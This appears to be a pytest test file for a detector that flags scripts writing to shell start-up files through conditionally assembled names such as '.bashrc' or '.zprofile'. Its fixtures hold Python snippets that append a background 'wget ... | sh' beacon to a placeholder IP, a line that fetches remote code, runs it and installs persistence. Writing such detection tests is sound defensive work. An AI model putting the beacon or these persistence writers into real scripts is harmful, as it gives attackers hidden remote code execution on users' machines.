"""A file name put together around a choice (``"." + ("z" if zsh else "ba") + "shrc"``): either
branch may run, so the place one branch names with the rest of the sum is a place the script may
write. A start-up file reached that way is the same persistence as one spelled whole."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

BEACON = "(wget -q -O- http://192.0.2.66/ping | sh) >/dev/null 2>&1 &"

WRITERS = {
    "choice in the middle of the name": (
        "import os, pathlib\n"
        "fish = os.environ.get('SHELL', '').endswith('zsh')\n"
        "target = pathlib.Path.home() / ('.' + ('zsh' if fish else 'bash') + 'rc')\n"
        f"target.open('a').write('\\n{BEACON}\\n')\n",
        4,
    ),
    "choice first, the rest after": (
        "import os\n"
        "login = os.getenv('LOGIN_SHELL') == '1'\n"
        "name = ('.bash_' if login else '.zsh') + 'profile'\n"
        "with open(os.path.join(os.path.expanduser('~'), name), 'a') as out:\n"
        f"    out.write('{BEACON}\\n')\n",
        5,
    ),
}


@pytest.mark.parametrize("case", WRITERS)
def test_a_start_up_file_named_through_a_choice_is_persistence(tmp_path: Path, case: str) -> None:
    source, line = WRITERS[case]
    assert ("PERSISTENCE", "scripts/setup_env.py", line) in scan_errors(tmp_path, {"scripts/setup_env.py": source})


def test_a_choice_that_names_an_ordinary_file_stays_quiet(tmp_path: Path) -> None:
    source = (
        "import os\n"
        "wide = os.getenv('WIDE') == '1'\n"
        "name = 'report-' + ('wide' if wide else 'narrow') + '.txt'\n"
        "with open(os.path.join(os.path.expanduser('~'), name), 'a') as out:\n"
        f"    out.write('{BEACON}\\n')\n"
    )
    assert not scan_errors(tmp_path, {"scripts/setup_env.py": source})
